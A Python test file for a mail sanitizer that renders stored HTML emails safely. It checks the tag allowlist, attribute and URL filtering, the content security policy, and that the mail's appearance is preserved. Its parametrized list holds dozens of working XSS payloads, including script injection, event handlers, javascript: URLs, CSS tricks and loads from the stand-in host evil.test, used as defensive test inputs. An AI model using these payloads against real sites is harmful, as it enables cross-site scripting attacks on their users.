"""A stored mail on a page of ours: nothing runs, nothing loads, and it still looks like the mail."""

import base64
import hashlib
import re
from html import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st
from mail_support import new_mailer

from riskportal.mail.reading import readable

KEPT = (
    "a b blockquote br caption code dd div dl dt em h1 h2 h3 h4 hr i li ol p pre small span strong sub sup table "
    "tbody td tfoot th thead tr u ul html head meta title style body !DOCTYPE"
).split()
SAFE = re.compile(rf"</?(?:{'|'.join(KEPT)})\b", re.I)


def body_of(html):
    return html.partition("</head>")[2]


def check(page):
    """What must hold for any input."""
    (css,) = re.findall(r"<style>(.*?)</style>", page.html, re.S)
    digest = base64.b64encode(hashlib.sha256(css.encode()).digest()).decode()
    assert page.policy == (
        f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'; "
        "frame-ancestors 'self'; sandbox allow-popups allow-popups-to-escape-sandbox"
    )
    for tag in re.findall(r"<[^>]*>?", page.html):
        assert SAFE.match(tag), tag
        assert not re.search(r"\s(?:on\w+|style|src|srcset|srcdoc|action|formaction|background|poster)\s*=", tag), tag
        for address in re.findall(r'href="([^"]*)"', tag):
            assert re.match(r"(?:https?://|mailto:|tel:)", address, re.I), tag


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</script>",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" java\tscript:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<a href="https://x.test/"onclick=alert(1)">x</a>',
        '<a href="https://x.test/" onclick="alert(1)" ping="//evil.test">x</a>',
        '<p style="background:url(//evil.test/x)">x</p>',
        '<p style="x:1} * {background:red">x</p>',
        '<p style="x:expression(alert(1))">x</p>',
        '<p style="x:1;}</style><script>alert(1)</script>">x</p>',
        '<p style="\\75rl(x)">x</p>',
        "<style>@import '//evil.test/x.css';</style>",
        "<style>p { color: red } </style><p>x</p>",
        "<style><!--</style><script>alert(1)</script>--></style>",
        "<base href=//evil.test><p>x</p>",
        "<meta http-equiv=refresh content='0;url=//evil.test'>",
        "<link rel=stylesheet href=//evil.test/x.css>",
        "<iframe src=//evil.test></iframe><object data=x></object><embed src=x>",
        "<form action=//evil.test><input name=a><button formaction=//evil.test>x</button></form>",
        "<body onload=alert(1) background=//evil.test/x><p>x",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<p class='\"><script>alert(1)</script>'>x",
        "<textarea></textarea><script>alert(1)</script>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><script>alert(1)</script></template>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<p>\x00<\x00script>alert(1)</script>",
        "<title></title><script>alert(1)</script>",
        "<plaintext><script>alert(1)</script>",
        "<" * 3000 + "script>",
    ],
)
def test_nothing_that_runs_or_loads_is_left(hostile):
    check(readable(f"<html><body>{hostile}<p>end</p></body></html>", "en"))
    check(readable(hostile, 'e"><script>'))


@given(st.text(alphabet="<>/\"'= abcipstylersoncdhf:;&#{}()!-\n\x00", max_size=200))
def test_nothing_is_left_of_any_soup(soup):
    check(readable(soup, "en"))


def test_text_is_text():
    page = readable("<p>&lt;script&gt; &amp;lt; 5 < 6 &copy;</p>", "en")
    assert "<p>&lt;script&gt; &amp;lt; 5 &lt; 6 ©</p>" in page.html


def test_our_own_mails_look_as_they_did(tenant):
    sent = new_mailer().preview("test.link", tenant, "en").html
    page = readable(sent, "en")
    check(page)
    inline = set(re.findall(r'style="([^"]+)"', body_of(sent)))
    css = re.search(r"<style>(.*?)</style>", page.html, re.S)[1]
    for style in inline:
        assert f"{{{style.replace('&#39;', chr(39))}}}" in css
    assert "@media (prefers-color-scheme: dark)" in css
    for tag in ("table", "tr", "td", "p", "h1", "a", "th"):
        assert len(re.findall(f"<{tag}[ >]", body_of(page.html))) == len(re.findall(f"<{tag}[ >]", body_of(sent)))
    texts = [re.sub(r"\s+", " ", unescape(re.sub(r"<[^>]+>", " ", body_of(html)))) for html in (sent, page.html)]
    assert texts[0] == texts[1]


def test_links_open_outside_the_frame():
    page = readable(
        '<a href="https://x.test/?a=1&amp;b=2" target="_top" rel="opener">x</a><a href="/g/x">y</a>', "en"
    )
    assert (
        '<a href="https://x.test/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">x</a><a>y</a>' in page.html
    )


def test_a_megabyte_is_read_in_time():
    check(readable("<p style='color:red'>x</p>" * 40_000, "en"))
    assert len(readable("<div>" * 100_000, "en").html) < 700_000
